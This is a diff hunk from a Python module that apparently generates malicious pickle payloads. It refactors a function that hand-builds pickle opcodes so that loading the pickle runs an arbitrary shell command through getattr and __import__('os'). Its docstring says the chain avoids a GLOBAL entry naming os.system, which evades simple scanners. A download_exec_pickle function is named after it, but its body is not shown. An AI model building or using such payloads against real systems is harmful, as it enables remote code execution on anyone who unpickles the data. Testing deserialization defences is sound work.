@@ -39,7 +39,8 @@ def getattr_chain_pickle(command: str) -> bytes:
     """getattr(__import__('os'), 'system')(command): no GLOBAL names os.system."""
     imp = _global("builtins", "__import__") + pickle.MARK + _unicode("os") + pickle.TUPLE + pickle.REDUCE
     system = _global("builtins", "getattr") + pickle.MARK + imp + _unicode("system") + pickle.TUPLE + pickle.REDUCE
-    return pickle.PROTO + b"\x02" + system + pickle.MARK + _unicode(command) + pickle.TUPLE + pickle.REDUCE + pickle.STOP
+    call = system + pickle.MARK + _unicode(command) + pickle.TUPLE + pickle.REDUCE
+    return pickle.PROTO + b"\x02" + call + pickle.STOP
 
 
 def download_exec_pickle(url: str) -> bytes:
